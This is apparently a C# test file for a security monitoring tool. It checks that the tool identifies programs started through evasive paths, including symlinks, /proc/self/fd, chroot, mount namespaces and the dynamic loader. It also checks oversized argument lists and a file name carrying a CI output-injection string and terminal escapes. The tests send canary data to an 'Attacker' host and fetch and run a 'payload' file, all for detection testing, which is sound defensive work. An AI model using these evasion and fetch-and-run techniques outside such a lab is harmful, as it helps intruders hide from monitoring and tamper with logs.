using Sallyport.Lab.Reports;

namespace Sallyport.Kernel.Tests;

/// <summary>B2, B7, F14: programs behind odd paths, with more arguments than are kept, and started by something else than exec of theirs.</summary>
public sealed class OddProgramTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    private const string Folder = "/run/lab/work/odd";

    /// <summary>Each makes a connection to where no rule leads; the program's file is FOLDER/tcp however it is called.</summary>
    [Theory]
    [EveryMode(
        "cd FOLDER/deep; ../deep/./../tcp", "cd FOLDER; PATH=.; export PATH; tcp", "ln -s FOLDER/tcp FOLDER/link; FOLDER/link",
        "exec 5< FOLDER/tcp; /proc/self/fd/5", "cd FOLDER; /proc/self/cwd/tcp", "chroot / FOLDER/tcp",
        "mkdir FOLDER/other; unshare -m sh -c 'mount --bind FOLDER FOLDER/deep; FOLDER/deep/tcp \"$@\"' sh")]
    public async Task A_path_of_many_names_is_told_as_one(LabMode mode, string program)
    {
        var run = await Lab.RunAsync(mode, Script(
            $"rm -rf {Folder}; mkdir -p {Folder}/deep; cp {Program("tcp")} {Folder}/tcp",
            $"({program.Replace("FOLDER", Folder, StringComparison.Ordinal)} connect {Attacker} 4443 {Canary}) || true"));
        Assert.True(run.Traffic.Contains(Canary) == (mode != LabMode.Block), run.ToString());
        if (mode != LabMode.Off)
        {
            var row = Assert.Single(run.Report.Connections, c => c is { Address: Attacker, Port: 4443 });
            var exe = run.Report.ExeOf(row.Process);
            Assert.True(exe is $"{Folder}/tcp" or $"{Folder}/deep/tcp", $"{exe}\n{run}");
        }
    }

    [Fact]
    public async Task A_name_with_a_line_break_and_a_path_that_is_too_long_are_told_and_print_nothing_of_their_own()
    {
        const string Name = "x\\n::set-output name=a::b\\033[31m\\377";
        var run = await Lab.RunAsync(LabMode.Audit, Script(
            $"rm -rf {Folder}; mkdir -p {Folder}; cp {Program("tcp")} {Folder}/tcp; cd {Folder}",
            $"n=$(printf '{Name}'); cp tcp \"$n\"; ./\"$n\" connect {Attacker} 4443 {Canary}",
            "l=$(printf 'long%.0s' $(seq 50)); for i in 1 2 3 4 5 6 7 8; do mkdir $l; cd $l; done",
            $"cp {Folder}/tcp .; ./tcp connect {Attacker} 4444 {Canary} || true",
            $"cd /; rm -rf {Folder}"));
        Assert.True(run.Traffic.Contains(Canary), run.ToString());
        var row = Assert.Single(run.Report.Connections, c => c is { Address: Attacker, Port: 4443 });
        Assert.Contains("set-output", run.Report.ExeOf(row.Process), StringComparison.Ordinal);
        row = Assert.Single(run.Report.Connections, c => c is { Address: Attacker, Port: 4444 });
        var cut = run.Report.ExeOf(row.Process); // its end, and a mark for what is left out
        Assert.True(cut is ['…', ..] && cut.EndsWith("/tcp", StringComparison.Ordinal), $"{cut}\n{run}");
        var page = await Lab.OutsideAsync(
            LabOptions.FromEnvironment().Product, "report", $"/run/lab/work/{Path.GetFileName(run.Folder)}/recording.ndjson.zst", "--format", "markdown");
        Assert.True(page.ExitCode == 0 && page.Output.Contains("set-output", StringComparison.Ordinal), page.ToString());
        Assert.DoesNotContain("\n::", page.Output, StringComparison.Ordinal);
        Assert.DoesNotContain('\u001b', page.Output);
    }

    [Fact]
    public async Task More_arguments_than_are_kept_are_cut_and_that_is_said()
    {
        var run = await Lab.RunAsync(LabMode.Audit, Command(
            "/usr/bin/python3", "-c",
            $"import os; os.execv('/usr/bin/curl', ['curl', '-sS', 'http://v4.test/{Canary}'] + ['--connect-timeout', '3'] * 6000)") with
        {
            Allow = ["v4.test:80"],
        });
        Assert.True(run.Traffic.Contains(Canary), run.ToString());
        var row = Assert.Single(run.Report.Connections, c => c is { Port: 80 });
        var process = run.Report.Processes.Single(one => one.Id == row.Process);
        Assert.True(process.ArgvTruncated && process.Argv.Count is >= 200 and < 1000 && process.Argv[2].EndsWith(Canary, StringComparison.Ordinal), run.ToString());
    }

    /// <summary>The loader runs a file that was fetched: the executable is the system's own, and no exec names the file.</summary>
    [Theory]
    [EveryMode]
    public async Task A_program_that_was_fetched_and_is_run_by_the_loader_is_found(LabMode mode)
    {
        var file = $"/tmp/dropped-{Guid.NewGuid():N}";
        var loader = Directory.GetFiles("/lib64", "ld-linux-*").Concat(Directory.GetFiles("/lib", "ld-linux-*")).First();
        var run = await Lab.RunAsync(mode, Script(
            $"sh -c 'curl -sS -o {file} http://v4.test/payload; cat /bin/echo > {file}; {loader} {file} {Canary}'", $"rm -f {file}") with
        {
            Allow = ["v4.test:80"],
        });
        Assert.Contains(Canary, run.Process.Output, StringComparison.Ordinal);
        if (mode != LabMode.Off)
        {
            ReportedFinding? row = run.Report.Findings.FirstOrDefault(finding => finding.Id == "dropped-program-run");
            Assert.True(row?.Evidence["program"] == file, run.ToString());
        }
    }

    [Fact]
    public async Task The_loader_with_a_program_of_the_system_is_none()
    {
        var loader = Directory.GetFiles("/lib64", "ld-linux-*").Concat(Directory.GetFiles("/lib", "ld-linux-*")).First();
        var run = await Lab.RunAsync(LabMode.Audit, Script($"{loader} --list /bin/echo > /dev/null; {loader} /bin/echo {Canary}"));
        Assert.True(run.Process.ExitCode == 0 && run.Report.Findings.Count == 0, run.ToString());
    }
}
